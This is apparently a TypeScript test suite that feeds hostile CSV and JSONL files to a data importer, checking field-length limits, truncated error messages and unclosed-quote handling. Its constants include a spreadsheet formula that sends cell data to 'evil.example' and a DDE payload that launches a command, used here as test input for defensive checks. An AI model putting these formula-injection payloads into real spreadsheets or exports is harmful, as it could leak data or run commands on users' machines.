import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { openDatabase, type Database } from '../../database/open-database';
import { PRODUCT_FILE } from '../../records/file-record';
import { describeEachBackend, type TestDatabase } from '../../testing/test-databases';
import { ImportFileError } from '../import-file';
import { OpenFormatImporter } from './open-format-importer';
import { openRecordFile } from './record-file';

const HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Click me")';
const CALC = "=cmd|' /C calc'!A0";
const MiB = 1024 * 1024;
const csvCell = (text: string) => `"${text.replaceAll('"', '""')}"`;
const PRODUCTS_HEADER = 'id,title,price,categories,tags,available,created_at,description';
const product = (cells: { id?: string; title?: string; categories?: string; tags?: string; description?: string }) =>
  [cells.id ?? 'P-1', cells.title ?? 'Mug', '5', cells.categories ?? 'Home', cells.tags ?? '', 'true', '2024-01-01T00:00:00Z', cells.description ?? '']
    .map(csvCell)
    .join(',');

describeEachBackend('OpenFormatImporter, hostile files', (backend) => {
  let testDb: TestDatabase;
  let db: Database;
  let importer: OpenFormatImporter;
  let dir: string;

  beforeAll(async () => {
    dir = mkdtempSync(path.join(tmpdir(), 'reco-hostile-open-'));
    testDb = await backend.create();
    db = await openDatabase({ url: testDb.url });
    await db.migrate();
    importer = new OpenFormatImporter(db);
  });
  afterAll(async () => {
    await db?.close();
    await testDb?.drop();
    rmSync(dir, { recursive: true, force: true });
  });

  it('refuses every overlong product field with its line, and stores formula text as given', async () => {
    const file = path.join(dir, 'products.csv');
    const rows = [
      product({ id: 'FORMULA-1', title: HYPERLINK, description: CALC, tags: '@SUM(1+1)|-2+3', categories: '+Home > =Kitchen' }),
      product({ id: 'X'.repeat(129) }),
      product({ id: 'P-3', title: 't'.repeat(501) }),
      product({ id: 'P-4', description: 'd'.repeat(20 * MiB) }),
      product({ id: 'P-5', categories: `Home > ${'c'.repeat(300)}` }),
      product({ id: 'P-6', categories: Array.from({ length: 51 }, (_, i) => `C${i}`).join('|') }),
      product({ id: 'P-7', tags: 't'.repeat(101) }),
      product({ id: 'AT-LIMITS', title: 't'.repeat(500), description: 'd'.repeat(5_000), tags: 't'.repeat(100) }),
    ];
    writeFileSync(file, [PRODUCTS_HEADER, ...rows].join('\n'));
    const summary = await importer.import('products', file);
    expect(summary).toMatchObject({ rowsRead: 8, accepted: 2, inserted: 2 });
    expect(summary.rejected.first.map((r) => [r.line, r.reason])).toEqual([
      [3, 'id: longer than 128 characters'],
      [4, 'title: longer than 500 characters'],
      [5, 'description: longer than 5000 characters'],
      [6, 'categories[0]: longer than 300 characters'],
      [7, 'categories: more than 50 entries'],
      [8, 'tags[0]: longer than 100 characters'],
    ]);
    expect(await db.products.findById('FORMULA-1')).toMatchObject({
      title: HYPERLINK,
      description: CALC,
      tags: ['@SUM(1+1)', '-2+3'],
      categories: ['+Home > =Kitchen'],
    });
    expect(await db.products.findById('AT-LIMITS')).toMatchObject({ title: 't'.repeat(500), description: 'd'.repeat(5_000) });
  });

  it('refuses overlong customer and event fields, and names a hostile field name only cut short', async () => {
    const customers = path.join(dir, 'customers.jsonl');
    const customer = (fields: Record<string, unknown>) => JSON.stringify({ id: 'C-1', country: 'DE', created_at: '2024-01-01T00:00:00Z', ...fields });
    writeFileSync(
      customers,
      [
        customer({ id: 'C-FORMULA', country: '-2+3', attributes: { note: CALC, '@link': HYPERLINK } }),
        customer({ id: 'C-2', country: 'c'.repeat(101) }),
        customer({ id: 'C-3', attributes: { ['k'.repeat(MiB)]: 'v' } }),
        customer({ id: 'C-4', attributes: { tier: 'v'.repeat(501) } }),
        customer({ id: 'C-5', attributes: Object.fromEntries(Array.from({ length: 51 }, (_, i) => [`k${i}`, 'v'])) }),
        customer({ id: 'C-6', ['u'.repeat(MiB)]: 1 }),
      ].join('\n'),
    );
    const summary = await importer.import('customers', customers);
    expect(summary).toMatchObject({ rowsRead: 6, accepted: 1 });
    expect(summary.rejected.first.map((r) => [r.line, r.reason])).toEqual([
      [2, 'country: longer than 100 characters'],
      // The whole name is cut: `attributes.` and the key's first 109 characters.
      [3, `attributes.${'k'.repeat(109)}…: key longer than 100 characters`],
      [4, 'attributes.tier: longer than 500 characters'],
      [5, 'attributes: more than 50 attributes'],
      [6, `${'u'.repeat(120)}…: unknown field`],
    ]);
    expect(JSON.stringify(summary).length).toBeLessThan(5_000);
    expect(await db.customers.findById('C-FORMULA')).toMatchObject({ country: '-2+3', attributes: { note: CALC, '@link': HYPERLINK } });

    const events = path.join(dir, 'events.csv');
    const long = 'e'.repeat(129);
    writeFileSync(
      events,
      [
        'event_id,customer_id,session_id,product_id,type,quantity,price,occurred_at,recommendation_id',
        `E-1,C-FORMULA,,${csvCell(HYPERLINK)},view,,,2024-01-02T00:00:00Z,`,
        `${long},C-1,,P-1,view,,,2024-01-02T00:00:00Z,`,
        `E-3,${long},,P-1,view,,,2024-01-02T00:00:00Z,`,
        `E-4,,${long},P-1,view,,,2024-01-02T00:00:00Z,`,
        `E-5,C-1,,${long},view,,,2024-01-02T00:00:00Z,`,
        `E-6,C-1,,P-1,click,,,2024-01-02T00:00:00Z,${long}`,
      ].join('\n'),
    );
    const recorded = await importer.import('events', events);
    expect(recorded).toMatchObject({ rowsRead: 6, accepted: 1, inserted: 1 });
    expect(recorded.rejected.first.map((r) => [r.line, r.reason])).toEqual([
      [3, 'event_id: longer than 128 characters'],
      [4, 'customer_id: longer than 128 characters'],
      [5, 'session_id: longer than 128 characters'],
      [6, 'product_id: longer than 128 characters'],
      [7, 'recommendation_id: longer than 128 characters'],
    ]);
  });

  it('counts at most 100 distinct reasons, the rest as other reasons', async () => {
    const file = path.join(dir, 'many-fields.jsonl');
    writeFileSync(file, Array.from({ length: 150 }, (_, i) => JSON.stringify({ id: `C-${i}`, country: 'DE', created_at: '2024-01-01', [`field_${i}`]: 1 })).join('\n'));
    const summary = await importer.import('customers', file);
    expect(summary.rejected.total).toBe(150);
    expect(Object.keys(summary.rejected.byReason)).toHaveLength(101);
    expect(summary.rejected.byReason).toMatchObject({ 'field_0: unknown field': 1, 'field_99: unknown field': 1, 'other reasons': 50 });
  });

  it('names a hostile header only in part', async () => {
    const file = path.join(dir, 'hostile-header.csv');
    const extra = ['h'.repeat(MiB), ...Array.from({ length: 30 }, (_, i) => `=x${i}`)];
    writeFileSync(file, `${[...PRODUCT_FILE.columns, ...extra].join(',')}\n${product({})}\n`);
    const failure = await importer.import('products', file).then(
      () => undefined,
      (err: unknown) => err,
    );
    expect(failure).toBeInstanceOf(ImportFileError);
    const message = (failure as ImportFileError).message;
    expect(message).toContain(`unknown columns ${'h'.repeat(120)}…, =x0, =x1, =x2, =x3, =x4, =x5, =x6, =x7, =x8 and 21 more.`);
    expect(message.length).toBeLessThan(1_000);
  });
});

describe('openRecordFile, a CSV record past the bound', () => {
  let dir: string;
  beforeAll(() => (dir = mkdtempSync(path.join(tmpdir(), 'reco-hostile-record-'))));
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  it('stops reading, naming the line after which the record began (a quote never closed)', async () => {
    const file = path.join(dir, 'unclosed.csv');
    const good = 'P-1,Mug,5,Home,,true,2024-01-01T00:00:00Z';
    writeFileSync(file, `${PRODUCT_FILE.columns.join(',')}\n${good}\nP-2,"Never closed,5,Home,,true,2024-01-01T00:00:00Z\n${`${good}\n`.repeat(100)}`);
    const source = await openRecordFile(file, PRODUCT_FILE, 1024);
    const lines: number[] = [];
    const reading = (async () => {
      for await (const entry of source.lines()) lines.push(entry.line);
    })();
    await expect(reading).rejects.toThrow(new ImportFileError(`cannot import ${file}: the CSV record after line 2 is longer than 1024 bytes (a quoted cell that never closes?)`));
    expect(lines.filter((line) => line > 2)).toEqual([]);
  });
});
